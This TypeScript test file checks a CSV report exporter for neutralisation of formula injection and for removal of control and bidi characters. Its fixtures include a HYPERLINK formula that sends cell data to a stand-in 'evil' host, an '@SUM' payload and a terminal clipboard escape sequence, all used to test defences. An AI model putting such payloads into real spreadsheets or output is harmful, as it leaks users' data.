import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { foreignDetails } from '../../test/helpers.js';
import { factoryRuleset, makeFinding, makeReport, payCap } from '../../test/report-factory.js';
import type { Finding } from '../types.js';
import { CSV_BASE_COLUMNS, formatCsv, neutraliseCell, parseCsvReport, unneutraliseCell } from './csv.js';

const opts = { ruleset: factoryRuleset(), color: false, verbose: false };
const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];

function hostileFindings(): Finding[] {
  return [
    payCap(58, 52, 37, { context: { worker_name: '=HYPERLINK("http://evil/?x="&A1,"click")', team: '-2+3' } }),
    payCap(38.005, 38, 22.5, {
      message: 'quote " comma , newline\nand CRLF\r\nend',
      assignment_id: '@SUM(1+1)',
      context: { agency: '+44 agency', worker_name: "'=already quoted", team: '\tTabbed', hours_per_week: null },
    }),
    makeFinding({
      rule: 'DFE-PQE', kind: 'min_pqe', status: 'unknown', swe_number: '', file: '-odd.csv', message: '\rstarts with CR',
      details: foreignDetails({ missing: ['pqe_months'], nested: { a: [1, 'two', null] } }),
      context: { la_name: null, role: null, agency: null, team: null, hours_per_week: null, worker_name: null },
    }),
    makeFinding({
      rule: 'DFE-NOTICE', kind: 'min_notice', severity: 'warning', status: 'exempted', exemption: 'SE-EX-2',
      details: { notice_weeks: 1, required: 4 }, context: { worker_name: 'Ünïcödé Nāme ✓', team: "''-two quotes", hours_per_week: 37.25 },
    }),
  ];
}

describe('formatCsv', () => {
  it('writes a BOM, CRLF line ends, a header and one row per finding', () => {
    const report = makeReport(hostileFindings());
    const csv = formatCsv(report, opts);
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    // every line break outside quoted cells is CRLF: parse with a strict reader
    const rows = parse(csv.slice(1), { record_delimiter: '\r\n', relax_quotes: false }) as string[][];
    expect(rows).toHaveLength(1 + report.findings.length);
    expect(rows[0]).toEqual([...CSV_BASE_COLUMNS, 'worker_name']);
  });

  it('reads back into exactly the JSON findings (a tab as its placeholder)', () => {
    const report = makeReport(hostileFindings());
    const back = parseCsvReport(formatCsv(report, opts));
    const shown = JSON.parse(JSON.stringify(report.findings).replace(/\\t/g, '\\\\x09'));
    expect(back.findings).toEqual(shown);
    expect(back.findings[1]!.message).toBe('quote " comma , newline\nand CRLF\r\nend');
    expect(back.findings[1]!.context!.team).toBe('\\x09Tabbed');
  });

  it('writes no control, bidi or zero-width character (ESC, BEL, U+202E, U+200B, DEL)', () => {
    const hostile = '\u001b]52;c;x\u0007\u202eevil\u200b\u200d\u009b\u007f';
    const csv = formatCsv(makeReport([payCap(58, 52, 37, { assignment_id: hostile, message: hostile, context: { team: hostile } })]), opts);
    expect(csv.slice(1)).not.toMatch(/[\u0000-\u0009\u000b\u000c\u000e-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\ufeff]/);
    expect(csv).toContain('\\x1B]52;c;x\\x07\\u202Eevil\\u200B\\u200D\\x9B\\x7F');
  });

  it('reads back reports without worker names or with a baseline mark', () => {
    const plain = [payCap(58, 52, 37), makeFinding({ rule: 'DFE-PQE', kind: 'min_pqe', details: {} })];
    expect(parseCsvReport(formatCsv(makeReport(plain), opts)).findings).toEqual(plain);
    const header = formatCsv(makeReport(plain), opts).split('\r\n')[0]!;
    expect(header).not.toContain('worker_name');
    const marked = [payCap(58, 52, 37, { baseline: 'new' }), payCap(59, 52, 37, { baseline: 'known' })];
    expect(parseCsvReport(formatCsv(makeReport(marked), opts)).findings).toEqual(marked);
  });

  it('leaves no formula-leading cell (OWASP CSV injection)', () => {
    const csv = formatCsv(makeReport(hostileFindings()), opts);
    const rows = parse(csv.slice(1), { record_delimiter: '\r\n' }) as string[][];
    for (const row of rows) {
      for (const cell of row) {
        expect(TRIGGERS.includes(cell.charAt(0)), JSON.stringify(cell)).toBe(false);
      }
    }
    expect(csv).toContain(`"'=HYPERLINK(""http://evil/?x=""&A1,""click"")"`);
    expect(csv).toContain(",'-2+3,");
    expect(csv).toContain("'@SUM(1+1)");
    expect(csv).toContain("'+44 agency");
    expect(csv).toContain("'-odd.csv");
    expect(csv).toContain(`"''=already quoted"`.replace(/"/g, ''));
  });

  it('gives council name, role, agency, rate and cap where they apply', () => {
    const csv = formatCsv(makeReport([payCap(60.5, 52, 37), makeFinding({ rule: 'DFE-PQE', kind: 'min_pqe', details: { pqe_months: 3, required: 36 } })]), opts);
    const [header, pay, pqe] = parse(csv.slice(1)) as string[][];
    const at = (row: string[], name: string) => row[header!.indexOf(name)];
    expect(at(pay!, 'council_name')).toBe('Kent');
    expect(at(pay!, 'role')).toBe('team_manager');
    expect(at(pay!, 'agency')).toBe('Acme Social Care');
    expect(at(pay!, 'rate')).toBe('60.50');
    expect(at(pay!, 'cap')).toBe('52.00');
    expect(at(pqe!, 'rate')).toBe('');
    expect(at(pqe!, 'cap')).toBe('');
    expect(JSON.parse(at(pay!, 'details')!)).toEqual(payCap(60.5, 52, 37).details);
  });
});

describe('neutralisation', () => {
  it('is reversed exactly, one apostrophe only before a trigger', () => {
    for (const text of ['=1+1', "'=1", "''@x", "'plain", "it's", '-', '', 'a=b', "'", '\t', "'\r"]) {
      expect(unneutraliseCell(neutraliseCell(text))).toBe(text);
      expect(/^[=+\-@\t\r]/.test(neutraliseCell(text))).toBe(false);
    }
    expect(unneutraliseCell("'plain")).toBe("'plain");
  });
});
